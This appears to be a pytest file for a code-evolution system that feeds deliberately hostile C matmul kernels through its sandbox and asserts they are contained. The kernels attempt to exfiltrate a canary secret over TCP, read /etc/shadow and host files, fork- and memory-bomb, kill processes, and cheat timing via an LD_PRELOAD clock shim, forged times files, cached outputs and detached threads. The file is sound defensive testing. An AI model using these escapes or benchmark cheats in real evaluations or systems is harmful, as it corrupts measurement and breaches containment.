"""Hostile candidates, all in one run each: escapes from the Docker sandbox, and attempts
to cheat the measurement on either backend.

Each attack is a C kernel that tries one thing. An attack that is stopped gives up
loudly (abort with the reason on stderr), so its candidate gets a failure status and
feedback; an attack that got through would compute the right answer and pass, which the
assertions below would catch. After the escape run the host is checked too: nothing
reached its listener, the secret it held is nowhere in the store, and the run finished.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from evolve.engine.loop import Engine, Outcome
from evolve.executors.local import LocalExecutor
from evolve.plugin.program import Program
from evolve.sandboxes.docker import docker_available
from evolve.store import Store
from evolve.task.loading import load_task, make_evaluator
from tests.conftest import CANARY_SECRET as SECRET
from tests.conftest import MATMUL_CONTRACT

DOCKER = [
    pytest.mark.docker,
    pytest.mark.skipif(not docker_available()[0], reason=f"docker: {docker_available()[1]}"),
]

MATMUL = Path(__file__).resolve().parent.parent / "tasks" / "matmul_c"

PRELUDE = """#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
"""

MATMUL_BODY = """
  for (int i = 0; i < n; i++)
    for (int j = 0; j < n; j++) {
      float sum = 0.0f;
      for (int k = 0; k < n; k++) sum += A[i * n + k] * B[k * n + j];
      C[i * n + j] = sum;
    }
"""


def blocked(what: str) -> str:
    return f'{{ fprintf(stderr, "blocked: {what}: %s\\n", strerror(errno)); abort(); }}'


def attacks(port: int, host_file: Path) -> dict[str, tuple[str, str]]:
    """name -> (code that runs first in the kernel, extra top-level code)."""
    return {
        "tcp": (
            f"""int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = {{.sin_family = AF_INET, .sin_port = htons({port})}};
  inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
  if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to) != 0) {blocked("tcp")}
  dprintf(s, "{SECRET}");""",
            "",
        ),
        "dns": (
            f"""struct addrinfo *found;
  if (getaddrinfo("deb.debian.org", "80", NULL, &found) != 0) {blocked("dns")}""",
            "",
        ),
        "host_file": (
            f"""int fd = open("{host_file}", O_RDONLY);
  if (fd < 0) {blocked("host file")}
  char text[64] = {{0}}; read(fd, text, 63); fprintf(stderr, "stole %s", text);""",
            "",
        ),
        "shadow": (
            f"""int fd = open("/etc/shadow", O_RDONLY);
  if (fd < 0) {blocked("shadow")}""",
            "",
        ),
        "env_secret": (
            f"""const char *secret = getenv("EVOLVE_CANARY_VALUE");
  if (!secret) {{ errno = ENOENT; {blocked("env")} }}
  fprintf(stderr, "secret=%s", secret);""",
            "",
        ),
        "fork_bomb": ("for (;;) fork();", ""),
        "memory_bomb": (
            f"""size_t size = 50UL << 30; char *p = malloc(size);
  if (!p) {blocked("malloc 50 GB")}
  for (size_t i = 0; i < size; i += 4096) p[i] = 1;""",
            "",
        ),
        "stdout_flood": (
            """static char line[1 << 16]; memset(line, 'x', sizeof line);
  for (long i = 0; i < (10L << 30) / (long)sizeof line; i++) fwrite(line, 1, sizeof line, stdout);
  abort();""",
            "",
        ),
        "disk_flood": (
            f"""static char block[1 << 20]; int fd = open("fill", O_WRONLY | O_CREAT, 0600);
  for (long i = 0; i < 10240; i++)
    if (write(fd, block, sizeof block) != (ssize_t)sizeof block) {blocked("disk")}""",
            "",
        ),
        "sleep_forever": ("for (;;) pause();", ""),
        "kill_all": ("kill(-1, SIGKILL);", ""),
        "plant": (
            """int fd = open("../planted", O_WRONLY | O_CREAT, 0644);
  if (fd < 0) fd = open("/work/planted", O_WRONLY | O_CREAT, 0644);
  if (fd < 0) fd = open("/tmp/planted", O_WRONLY | O_CREAT, 0644);
  if (fd >= 0) write(fd, "x", 1);
  abort();""",
            "",
        ),
        "timer_override": (
            "",
            "int clock_gettime(clockid_t id, struct timespec *t) "
            "{ t->tv_sec = 0; t->tv_nsec = 0; return 0; }",
        ),
    }


READER = """  if (access("../planted", F_OK) == 0 || access("/work/planted", F_OK) == 0 ||
      access("/tmp/planted", F_OK) == 0 || access("planted", F_OK) == 0) {
    fprintf(stderr, "found a file planted by an earlier job\\n"); abort();
  }"""


def kernel(first: str, top: str) -> Program:
    source = (
        f"{PRELUDE}// EVOLVE-BLOCK-START\n// cflags: -O2\n{top}\n"
        "void matmul(int n, const float *restrict A, const float *restrict B,\n"
        "            float *restrict C) {\n"
        f"  {first}\n{MATMUL_BODY}}}\n// EVOLVE-BLOCK-END\n"
    )
    return Program({"seed.c": source})


TASK = """name: adversarial
seed: seed.c
evaluator:
  name: c_kernel
  params: {CONTRACT, reference: reference.py, sizes: {n: 32}, reps: 5, counters: always}
objectives: [{name: gflops, direction: maximize}]
search: {islands: 1}
budget: {candidates: BUDGET}
sandbox: {backend: docker, timeout_s: 6, memory_mb: 512, max_processes: 64}
"""
TASK = TASK.replace("CONTRACT", MATMUL_CONTRACT)


def run_candidates(
    tmp_path: Path, task_text: str, programs: list[tuple[str, Program]], run_name: str
) -> tuple[Outcome, Store, dict[str, int]]:
    """A matmul task whose seed is the first program, with every program inserted as a
    candidate and the budget set to their number, run to its end by one worker: so
    exactly these programs are evaluated, and nothing is mutated."""
    task_dir = tmp_path / "task"
    task_dir.mkdir()
    shutil.copy(MATMUL / "reference.py", task_dir / "reference.py")
    (task_dir / "seed.c").write_text(programs[0][1].files["seed.c"])
    (task_dir / "task.yaml").write_text(task_text.replace("BUDGET", str(len(programs))))
    task = load_task(task_dir / "task.yaml")
    store = Store(f"sqlite:///{tmp_path / 'evolve.db'}")
    run = store.create_run(
        run_name, task_path=str(task.path), task_yaml=task.text, seed=1, settings={}
    )
    ids: dict[str, int] = {}
    for name, program in programs:
        added = store.add_candidate(
            run_name, program, parent_ids=[], island=0, generation=0, mutation={"attack": name}
        )
        assert added is not None
        ids[name] = added.id
    engine = Engine(
        task,
        store,
        run,
        make_evaluator(task),
        LocalExecutor(tmp_path),
        workers=1,
        results_dir=tmp_path / "results",
    )
    return engine.run(), store, ids


@pytest.fixture
def host_listener() -> tuple[int, list[bytes]]:
    """A TCP server on the host's loopback that records anything that reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            received.append(connection.recv(1024) or b"<connected>")
            connection.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


# `kill -9 -1` cannot reach the supervisor or the container's init (the job's seccomp filter
# refuses it), so the kernel goes on to compute its answer like any other.
REFUSED_HARMLESS = {"kill_all"}


@pytest.mark.docker
@pytest.mark.skipif(not docker_available()[0], reason=f"docker: {docker_available()[1]}")
def test_every_attack_is_contained_and_the_run_goes_on(
    tmp_path: Path, host_listener: tuple[int, list[bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    # In the driver's environment, so in the evaluation workers' too: its name is not a
    # secret's, so only the sandbox's own wall keeps it from a candidate.
    monkeypatch.setenv("EVOLVE_CANARY_VALUE", SECRET)
    port, received = host_listener
    host_file = tmp_path / "host-only.txt"
    host_file.write_text("host-only-content")

    cases = attacks(port, host_file)
    programs = [
        ("seed", kernel("", "")),
        *((n, kernel(*code)) for n, code in cases.items()),
        ("reader", kernel(READER, "")),
    ]
    outcome, store, ids = run_candidates(tmp_path, TASK, programs, "attack")

    assert outcome.reason.startswith("candidate budget reached")
    assert store.pending_candidates("attack") == []
    status = {name: store.candidate(i).status for name, i in ids.items()}  # type: ignore[union-attr]
    feedback = {name: store.evaluations(i)[0].feedback for name, i in ids.items()}
    assert status["seed"] == "ok" and status["reader"] == "ok", feedback["reader"]
    for name in cases.keys() - REFUSED_HARMLESS:
        assert status[name] != "ok", f"{name} was not stopped: {feedback[name]}"
        assert feedback[name].strip(), f"{name} failed without feedback"
    for name in REFUSED_HARMLESS:  # its signal was refused, so it ran as the honest kernel
        assert status[name] == "ok", f"{name}: {feedback[name]}"
    for name in ("tcp", "dns", "host_file", "shadow", "env_secret", "memory_bomb", "disk_flood"):
        assert "blocked" in feedback[name] or "signal" in feedback[name], (name, feedback[name])
    assert "its file size limit of 256 MB per file (sandbox.max_file_mb)" in feedback["disk_flood"]
    assert (
        status["timer_override"] == "build_failed" and "clock_gettime" in feedback["timer_override"]
    )
    assert status["sleep_forever"] == "timeout" and status["fork_bomb"] == "timeout"

    assert received == [], "a candidate reached a service on the host"
    everything = " ".join(
        f"{e.feedback} {e.artifacts} {e.sandbox}" for e in store.run_evaluations("attack")
    )
    assert SECRET not in everything and "host-only-content" not in everything
    assert not (tmp_path / "planted").exists()

    # Counters: the seed was measured twice in this run; simulated counts are identical.
    seed_runs = [e for e in store.evaluations(ids["seed"]) if e.status == "ok"]
    assert [e.kind for e in seed_runs] == ["evaluate", "remeasure"]
    first, second = (e.counters["instructions"] for e in seed_runs)
    if first.source == "cachegrind":
        assert first == second, "valgrind's instruction counts must be deterministic"
    shown = subprocess.run(
        [sys.executable, "-m", "evolve", "show", str(ids["seed"]), "--db", store.url],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert shown.returncode == 0, shown.stderr
    assert "instructions" in shown.stdout and first.source in shown.stdout


# Cheating the measurement: each of these kernels computes the right answer when it is
# checked, and tries to look faster than it is when it is timed. The driver's serve mode
# (the timed one) is told apart from its check mode by fd 5, the pipe to the timer.

TIMED = "fcntl(5, F_GETFD) != -1"

SHIM_SOURCE = """#include <time.h>
int clock_gettime(clockid_t id, struct timespec *t) { t->tv_sec = 0; t->tv_nsec = 1; return 0; }
"""

COMPUTE = """
static void compute(int n, const float *A, const float *B, float *C) {
  for (int i = 0; i < n; i++)
    for (int j = 0; j < n; j++) {
      float sum = 0.0f;
      for (int k = 0; k < n; k++) sum += A[i * n + k] * B[k * n + j];
      C[i * n + j] = sum;
    }
}
"""

HASH = """static unsigned long long digest(const float *p, int count) {
  unsigned long long h = 1469598103934665603ULL;
  const unsigned char *b = (const unsigned char *)p;
  for (long i = 0; i < (long)count * 4; i++) h = (h ^ b[i]) * 1099511628211ULL;
  return h;
}"""


def shim_bytes(tmp_path: Path) -> bytes:
    """A real LD_PRELOAD shim that stops the clock, as the attack that once won carried."""
    source, library = tmp_path / "shim.c", tmp_path / "shim.so"
    source.write_text(SHIM_SOURCE)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", library, source], check=True)
    return library.read_bytes()


def measurement_attacks(shim: bytes) -> dict[str, tuple[str, str]]:
    """name -> (code that runs first in the kernel, extra top-level code)."""
    table = ",".join(str(b) for b in shim)
    return {
        "forged_times": (
            f"""if ({TIMED}) {{ FILE *f = fopen("times.txt", "w");
    for (int r = 0; f && r < 64; r++) fputs("1e-9\\n", f);
    if (f) fclose(f); }}""",
            "",
        ),
        "atexit_forge": (
            "static int armed; if (!armed) { armed = 1; atexit(forge); }",
            """static void forge(void) {
  FILE *f = fopen("times.txt", "w");
  for (int r = 0; f && r < 64; r++) fputs("1e-9\\n", f);
  if (f) fclose(f);
}""",
        ),
        "preload_shim": (
            f"if ({TIMED}) reexec();",
            f"""static const unsigned char SHIM[] = {{{table}}};
static void reexec(void) {{
  if (getenv("SHIMMED")) return;
  int fd = open("shim.so", O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (fd < 0 || write(fd, SHIM, sizeof SHIM) != (ssize_t)sizeof SHIM) {blocked("shim")}
  close(fd);
  static char path[4096], args[8192];
  if (!getcwd(path, sizeof path - 16)) {blocked("cwd")}
  strcat(path, "/shim.so");
  setenv("LD_PRELOAD", path, 1);
  setenv("SHIMMED", "1", 1);
  int c = open("/proc/self/cmdline", O_RDONLY);
  ssize_t len = read(c, args, sizeof args - 1);
  char *argv[64];
  int k = 0;
  for (char *p = args; p < args + len && k < 63; p += strlen(p) + 1) argv[k++] = p;
  argv[k] = 0;
  execv("/proc/self/exe", argv);
  {blocked("exec")}
}}""",
        ),
        "cached_output": (
            """static float *saved; size_t bytes = sizeof(float) * n * n;
  if (saved) { memcpy(C, saved, bytes); return; }
  compute(n, A, B, C); saved = malloc(bytes); memcpy(saved, C, bytes); return;""",
            COMPUTE,
        ),
        "input_keyed_cache": (
            """static unsigned long long keys[64]; static float *answers[64]; static int used;
  size_t bytes = sizeof(float) * n * n;
  unsigned long long key = digest(A, n * n) ^ (digest(B, n * n) << 1);
  for (int e = 0; e < used; e++)
    if (keys[e] == key) { memcpy(C, answers[e], bytes); return; }
  compute(n, A, B, C);
  if (used < 64) {
    keys[used] = key; answers[used] = malloc(bytes); memcpy(answers[used++], C, bytes);
  }
  return;""",
            HASH + COMPUTE,
        ),
        "shm_cache": (
            """char name[96]; size_t bytes = sizeof(float) * n * n;
  snprintf(name, sizeof name, "/dev/shm/evolve-cache-%llx", digest(A, n * n) ^ digest(B, n * n));
  int fd = open(name, O_RDONLY);
  if (fd >= 0 && read(fd, C, bytes) == (ssize_t)bytes) { close(fd); return; }
  compute(n, A, B, C);
  fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0) { write(fd, C, bytes); close(fd); }
  return;""",
            HASH + COMPUTE,
        ),
        "background_finish": (
            f"""if ({TIMED}) {{ job = (struct job){{n, A, B, C}}; pthread_t t;
    if (pthread_create(&t, 0, finish, 0) != 0) {blocked("thread")}
    pthread_detach(t); return; }}""",
            f"""#include <pthread.h>
{COMPUTE}
struct job {{ int n; const float *A, *B; float *C; }};
static struct job job;
static void *finish(void *unused) {{
  (void)unused;
  compute(job.n, job.A, job.B, job.C);
  return 0;
}}""",
        ),
        "fork_helper": (
            f"""if ({TIMED}) {{ pid_t helper = fork();
    if (helper < 0) {blocked("fork")}
    if (helper == 0) {{ for (;;) pause(); }} }}""",
            "",
        ),
        "meddle": (
            f"""if ({TIMED}) {{ int meddled = 0;
    if (kill(getppid(), 0) == 0) MEDDLED("kill")
    if (kill(-1, 0) == 0) MEDDLED("kill -1")
    if (setpriority(PRIO_PROCESS, getppid(), 19) == 0) MEDDLED("nice")
    if (ptrace(PTRACE_TRACEME, 0, 0, 0) == 0) MEDDLED("ptrace")
    if (!meddled) {blocked("kill, setpriority and ptrace")} }}""",
            """#include <sys/ptrace.h>
#include <sys/resource.h>
#define MEDDLED(what) { fprintf(stderr, "meddled: " what "\\n"); meddled = 1; }""",
        ),
        "made_at_start": (
            "",
            """#include <sys/stat.h>
__attribute__((constructor)) static void made(void) { mkdir("made-at-start", 0700); }""",
        ),
        "changed_timer": (
            f"""if ({TIMED}) {{ FILE *f = fopen("timer.py", "a");
    if (f) {{ fputs("# appended\\n", f); fclose(f); }} }}""",
            "",
        ),
        "removed_seed": (f'if ({TIMED}) unlink("reference");', ""),
        "tmp_cache": (
            f"""if ({TIMED}) {{ mkdir("/tmp/evolve-cache", 0700);
    FILE *f = fopen("/tmp/evolve-cache/C", "w"); if (f) fclose(f); }}""",
            "#include <sys/stat.h>",
        ),
        "side_channels": (
            f"""if ({TIMED}) {{ int meddled = 0; char ring_params[120] = {{0}};
    long ring = syscall(SYS_io_uring_setup, 4, ring_params);
    if (ring >= 0) MEDDLED("io_uring")
    if (fallocate(3, 0, 0, 4096) == 0) MEDDLED("fallocate on the arena")
    if (syscall(SYS_userfaultfd, 0) >= 0) MEDDLED("userfaultfd")
    if (!meddled) {blocked("io_uring, fallocate and userfaultfd")} }}""",
            """#include <sys/syscall.h>
#define MEDDLED(what) { fprintf(stderr, "meddled: " what "\\n"); meddled = 1; }""",
        ),
    }


HONEST = """// EVOLVE-BLOCK-START
// cflags: -O3
void matmul(int n, const float *restrict A, const float *restrict B, float *restrict C) {
  for (int i = 0; i < n * n; i++) C[i] = 0.0f;
  for (int i = 0; i < n; i++)
    for (int k = 0; k < n; k++)
      for (int j = 0; j < n; j++) C[i * n + j] += A[i * n + k] * B[k * n + j];
}
// EVOLVE-BLOCK-END
"""

# What catching each attack looks like: the status it earns and words its feedback must hold.
# An attack that cannot gain passes with its true speed, and must simply never win.
CAUGHT = {
    "forged_times": ("measure_failed", "times.txt"),
    "atexit_forge": ("measure_failed", "times.txt"),
    "preload_shim": ("measure_failed", "re-execute"),
    "cached_output": ("measure_failed", "fresh inputs"),
    "fork_helper": ("measure_failed", "blocked: fork"),
    "meddle": ("measure_failed", "blocked: kill, setpriority and ptrace"),
    "side_channels": ("measure_failed", "blocked: io_uring, fallocate and userfaultfd"),
    "made_at_start": ("measure_failed", "as the kernels started, the files changed: created"),
    "changed_timer": ("measure_failed", "changed ./timer.py"),
    "removed_seed": ("measure_failed", "removed ./reference"),
}
GAINS_NOTHING = ("input_keyed_cache",)
# A thread left computing after the call returned: caught by the output copied while the
# kernel is stopped, unless the scheduler ran the thread to its end before the call
# returned (one CPU, a short kernel), in which case it gained nothing.
EITHER = {"background_finish": ("measure_failed", "wrong output")}
# Both backends give each job a /dev/shm of its own, which the timer watches.
CAUGHT["shm_cache"] = ("measure_failed", "created /dev/shm/evolve-cache-")
# Docker's /tmp is read-only (the cache is never written); bubblewrap's is the job's own.
EITHER["tmp_cache"] = ("measure_failed", "created /tmp/evolve-cache")

CHEAT_TASK = """name: cheats
seed: seed.c
evaluator:
  name: c_kernel
  params: {CONTRACT, reference: reference.py, sizes: {n: 96}, reps: 5, counters: never}
objectives: [{name: speedup, direction: maximize}]
search: {islands: 1}
budget: {candidates: BUDGET}
sandbox: {backend: BACKEND, timeout_s: 20, memory_mb: 512}
"""
CHEAT_TASK = CHEAT_TASK.replace("CONTRACT", MATMUL_CONTRACT)


@pytest.mark.system
@pytest.mark.parametrize("backend", [pytest.param("docker", marks=DOCKER), "process"])
def test_measurement_attacks_are_caught_and_never_crowned(tmp_path: Path, backend: str) -> None:
    cases = measurement_attacks(shim_bytes(tmp_path))
    programs = [
        ("seed", kernel("", "")),
        ("honest", Program({"seed.c": PRELUDE + HONEST})),
        *((name, kernel(*code)) for name, code in cases.items()),
    ]
    task_text = CHEAT_TASK.replace("BACKEND", backend)
    outcome, store, ids = run_candidates(tmp_path, task_text, programs, "cheats")
    assert not list(Path("/dev/shm").glob("evolve-cache-*"))  # nothing reached the host's

    def latest(name: str) -> tuple[str, str, dict[str, float]]:
        record = store.candidate(ids[name])
        evaluation = store.evaluations(ids[name])[-1]
        assert record is not None
        return record.status, evaluation.feedback, evaluation.metrics

    assert outcome.best is not None and outcome.best.id == ids["honest"], latest("honest")
    honest_speedup = latest("honest")[2]["speedup"]
    assert honest_speedup > 1.5
    for name, (status, words) in CAUGHT.items():
        got, feedback, _ = latest(name)
        assert got == status and words in feedback, (name, got, feedback)
        assert "meddled" not in feedback, (name, feedback)
    for name in GAINS_NOTHING:
        got, feedback, metrics = latest(name)
        assert got == "ok", (name, feedback)
        assert metrics["speedup"] < 0.8 * honest_speedup, (name, metrics)
    for name, (status, words) in EITHER.items():
        got, feedback, metrics = latest(name)
        caught = got == status and words in feedback
        assert caught or metrics["speedup"] < 0.8 * honest_speedup, (name, got, feedback)
